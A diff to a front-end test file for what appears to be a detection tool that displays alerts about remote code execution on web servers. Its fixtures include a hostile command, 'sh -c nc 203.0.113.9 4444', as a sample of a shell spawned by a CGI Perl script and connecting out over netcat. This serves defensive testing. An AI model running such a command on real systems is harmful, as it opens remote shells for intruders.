@@ -3,7 +3,6 @@ import { cleanup, screen, within } from '@testing-library/react';
 import { afterEach, expect, test } from 'vitest';
 import { renderApp } from '../../test/browser_app/render_app';
 import { toAlertOfProcess } from '../../test/browser_app/sample_alerts';
-import { toSampleStory, toStoryProcess, toStoryTree } from '../../test/browser_app/sample_story';
 
 afterEach(cleanup);
 
@@ -28,28 +27,17 @@ test('decodes what the command hides, and tells public addresses from private on
 });
 
 test('reads what a script was made to run, not how the server started the script', async () => {
-  const root = toStoryProcess(0, ['perl', '/cgi-bin/up.pl'], {
-    eventId: 'event-1',
-    isOfAlert: true,
-  });
-  const typed = toStoryProcess(2, ['sh', '-c', 'nc 203.0.113.9 4444'], { depth: 2 });
-  const sign = { id: 'raw_connection', params: {}, eventIndex: typed.eventIndex, weight: 70 };
   const alert = {
-    ...toAlertOfProcess('alert-1', { args: root.args }),
-    signs: [{ ...sign, eventId: typed.eventId, technique: undefined }],
+    ...toAlertOfProcess('alert-1', { args: ['perl', '/cgi-bin/up.pl'] }),
+    tellingCommand: 'sh -c nc 203.0.113.9 4444',
   };
   renderApp({
     path: '/alerts/alert-1',
-    answers: {
-      'GET /internal/web_server_rce/alerts/*': () => ({ alert }),
-      'GET /internal/web_server_rce/alerts/*/story': () => ({
-        story: toSampleStory({ trees: [toStoryTree([root, typed])] }),
-      }),
-    },
+    answers: { 'GET /internal/web_server_rce/alerts/*': () => ({ alert }) },
   });
   await screen.findByRole('button', { name: 'Show all alerts with 203.0.113.9' });
   const part = screen.getByRole('region', { name: 'The command, read for you' });
-  expect(part.textContent).toContain("sh -c 'nc 203.0.113.9 4444'");
+  expect(part.textContent).toContain('sh -c nc 203.0.113.9 4444');
 });
 
 test('looks for an indicator in all alerts with one click', async () => {
